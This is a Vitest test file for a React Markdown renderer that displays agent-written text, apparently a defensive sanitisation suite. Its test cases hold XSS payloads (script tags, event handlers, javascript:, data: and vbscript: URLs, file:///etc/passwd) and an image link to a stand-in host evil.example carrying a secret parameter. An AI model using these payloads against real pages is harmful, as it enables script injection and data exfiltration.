import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

const draw = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

describe('what an agent wrote', () => {
  it('is drawn as Markdown', () => {
    const html = draw(
      '## State\n\n`web` is **down**:\n\n1. first\n2. second\n\n> quoted\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```\ncode\n```',
    );
    for (const part of ['<strong', '<ol', '<li', '<blockquote', '<td', '<pre', '<code']) {
      expect(html).toContain(part);
    }
    expect(html).not.toMatch(/<h\d/);
  });

  it.each([
    ['one\ntwo\n\nthree', '<p>one\ntwo</p>\n<p>three</p>'],
    ['## Result\nall well', '<p>Result</p>\n<p>all well</p>'],
    ['3. c\n4. d', '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'],
    ['- a\n  - b', '<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul></li>\n</ul>'],
    ['- [ ] open', '<ul>\n<li>[ ] open</li>\n</ul>'],
    ['```sh\nls **x**\n\npwd\n```\nend', '<pre><code>ls **x**\n\npwd\n</code></pre>\n<p>end</p>'],
    ['```\nnever closed', '<pre><code>never closed\n</code></pre>'],
    ['2 * 3 ** 4 ** 5, ~5 to ~6', '<p>2 * 3 ** 4 ** 5, ~5 to ~6</p>'],
    ['~~old~~ new[^1]', '<p><del>old</del> new[^1]</p>'],
  ])('draws %j', (text, html) => {
    const bare = draw(text)
      .replace(/ (?:class|tabindex)="[^"]*"/g, '')
      .replace(/<li><div>\s*/g, '<li>')
      .replace(/\s*<\/div><\/li>/g, '</li>')
      .replace(/<li><p>(.*?)<\/p>/g, '<li>$1')
      .replace(/^<div>|<\/div>$/g, '');
    expect(bare).toBe(html);
  });

  it('can be scrolled by keyboard where it is wider than the page', () => {
    expect(draw('| a |\n| - |\n| 1 |')).toMatch(/tabindex="0" class="overflow-x-auto/);
    expect(draw('```\nlong\n```')).toMatch(/tabindex="0" class="overflow-x-auto/);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'text <b onclick="alert(1)">bold</b>',
    '<a href="javascript:alert(1)">x</a>',
    '<!-- hidden -->',
    '<details open ontoggle=alert(1)>',
  ])('keeps HTML as the characters that it is: %s', (markdown) => {
    const html = draw(markdown);
    expect(html).not.toMatch(/<(script|img|b|a|details|!--)[ >]/);
    expect(html).toContain('&lt;');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#x09;script:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](/acme/projects/shop/settings/danger)',
    '[x](https://shop.example@evil.example/)',
    '<javascript:alert(1)>',
    '[x]\n\n[x]: javascript:alert(1)',
    '[redacted: key]\n\n[redacted: key]: javascript:alert(1)',
    'https://evil.example/?q=1 www.evil.example ops@evil.example',
    'javascript://evil.example/%0Aalert(1)',
  ])('makes no link of %s', (markdown) => {
    expect(draw(markdown)).not.toMatch(/href|javascript:alert\(1\)"/i);
  });

  it('loads no pictures', () => {
    const html = draw('![state](https://evil.example/p.png?secret=1)');
    expect(html).not.toMatch(/<img|evil\.example/);
    expect(html).toContain('state');
    expect(draw('![a\u202Eb][p]\n\n[p]: https://evil.example/p.png')).not.toMatch(
      /<img|evil\.example|\u202E/,
    );
  });

  it('says where a link leads', () => {
    const html = draw('[the guide](https://docs.example/restart)');
    expect(html).toContain('href="https://docs.example/restart"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('(docs.example)');
    expect(draw('<https://docs.example/restart>')).not.toContain('(docs.example)');
  });

  it('shows what hides in a text, in code and in a link', () => {
    for (const text of [
      '\u202Etxt',
      '`a\u202Eb`',
      '```\na\u202Eb\n```',
      '[a\u202Eb](https://c.example)',
    ]) {
      expect(draw(text)).not.toContain('\u202E');
      expect(draw(text)).toContain('U+202E');
    }
  });

  it('shows a redaction by its kind', () => {
    expect(draw('**key** [redacted: GitHub token]')).not.toContain('[redacted');
    expect(draw('`[redacted: GitHub token]`')).toContain('GitHub token</span>');
  });
});
